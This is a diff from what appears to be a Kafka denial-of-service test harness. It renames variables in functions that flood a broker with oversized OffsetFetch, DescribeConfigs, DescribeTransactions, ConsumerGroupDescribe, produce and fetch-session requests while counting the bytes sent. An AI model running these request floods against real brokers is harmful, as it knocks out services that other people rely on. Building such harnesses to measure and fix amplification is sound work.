@@ -36,13 +36,13 @@ def positions_64(target: AttackTarget) -> int:
 
 def answer_to_nobody(target: AttackTarget) -> int:
     """Twenty clients ask for the positions of one group 1,000 times and hang up at once."""
-    sent = _with_positions(target)
+    sent_bytes = _with_positions(target)
     frame = _offset_fetch(1_000)
     for _ in range(20):
         with target.socket() as connection:
             connection.sendall(frame)
     time.sleep(3.0)
-    return sent + 20 * len(frame)
+    return sent_bytes + 20 * len(frame)
 
 
 def configs(target: AttackTarget) -> int:
@@ -54,14 +54,16 @@ def configs(target: AttackTarget) -> int:
 
 def configs_appends(target: AttackTarget) -> int:
     """DescribeConfigs of a value of 8.5 MB, once, and one that is set by two appends."""
-    sent = _with_config(target)
+    sent_bytes = _with_config(target)
     for config_value in ("a", "b"):
         change = {"name": "leader.replication.throttled.replicas", "config_operation": 2}
         resource = {"resource_type": 2, "resource_name": WIDE}
         resource["configs"] = [{**change, "value": config_value}]
-        sent += _send_and_read(target, request(44, 1, resources=[resource], validate_only=False))
+        sent_bytes += _send_and_read(
+            target, request(44, 1, resources=[resource], validate_only=False)
+        )
     resource = {"resource_type": 2, "resource_name": WIDE, "configuration_keys": None}
-    return sent + _send_and_read(
+    return sent_bytes + _send_and_read(
         target, request(32, 4, resources=[resource], include_synonyms=True)
     )
 
@@ -78,14 +80,14 @@ def producers_64(target: AttackTarget) -> int:
 
 def consumer_group(target: AttackTarget) -> int:
     """ConsumerGroupDescribe of a group of 9,990 partitions, named 2,000 times."""
-    sent = _consumer_group(target)
-    return sent + _send_and_read(target, request(69, 1, group_ids=["consumers"] * 2_000))
+    sent_bytes = _consumer_group(target)
+    return sent_bytes + _send_and_read(target, request(69, 1, group_ids=["consumers"] * 2_000))
 
 
 def transactions_64(target: AttackTarget) -> int:
     """DescribeTransactions of an id with 9,990 partitions, named 64 times."""
-    _, sent = with_transaction(target)
-    return sent + _send_and_read(target, request(65, 0, transactional_ids=["t"] * 64))
+    _, sent_bytes = with_transaction(target)
+    return sent_bytes + _send_and_read(target, request(65, 0, transactional_ids=["t"] * 64))
 
 
 def fetch_sessions(target: AttackTarget) -> int:
@@ -94,7 +96,7 @@ def fetch_sessions(target: AttackTarget) -> int:
         {"partition": partition_index, "partition_max_bytes": 1}
         for partition_index in range(PARTITIONS)
     ]
-    opened = request(
+    opening_request = request(
         *(1, 11),
         replica_id=-1,
         max_wait=0,
@@ -107,14 +109,14 @@ def fetch_sessions(target: AttackTarget) -> int:
     with target.socket() as connection:
         connection.settimeout(60.0)
         for _ in range(60):
-            connection.sendall(opened)
+            connection.sendall(opening_request)
             read_answers(connection, 1)
-    return len(opened)  # what one of them carries: an answered request is gone
+    return len(opening_request)  # what one of them carries: an answered request is gone
 
 
-def _offset_fetch(times: int) -> bytes:
+def _offset_fetch(repeat_count: int) -> bytes:
     group = {"group_id": "g", "member_id": None, "member_epoch": -1, "topics": None}
-    return request(9, 9, groups=[group] * times)
+    return request(9, 9, groups=[group] * repeat_count)
 
 
 def _describe_producers(indexes: Sequence[int]) -> bytes:
@@ -152,19 +154,19 @@ def with_transaction(target: AttackTarget) -> tuple[Any, int]:
     make_ids(target, ["t"])
     with target.connect() as connection:
         description = connection.ask(65, 0, transactional_ids=["t"]).transaction_states[0]
-        added = {
+        added_partitions = {
             "v3_and_below_transactional_id": "t",
             "v3_and_below_producer_id": description.producer_id,
             "v3_and_below_producer_epoch": description.producer_epoch,
             "v3_and_below_topics": [{"name": WIDE, "partitions": range(PARTITIONS)}],
         }
-        connection.ask(24, 3, **added)
-    return description, len(request(24, 3, **added))
+        connection.ask(24, 3, **added_partitions)
+    return description, len(request(24, 3, **added_partitions))
 
 
 def with_producers(target: AttackTarget) -> int:
     """Have 5,000 producers at one partition; bytes sent."""
-    sent = 0
+    sent_bytes = 0
     with target.socket() as connection:
         for producer_number in range(PRODUCERS):
             records = build_batch(
@@ -178,8 +180,8 @@ def with_producers(target: AttackTarget) -> int:
             frame = request(0, 9, acks=1, timeout=30_000, topic_data=[topic])
             connection.sendall(frame)
             read_answers(connection, 1)
-            sent += len(frame)
-    return sent
+            sent_bytes += len(frame)
+    return sent_bytes
 
 
 def _consumer_group(target: AttackTarget) -> int:
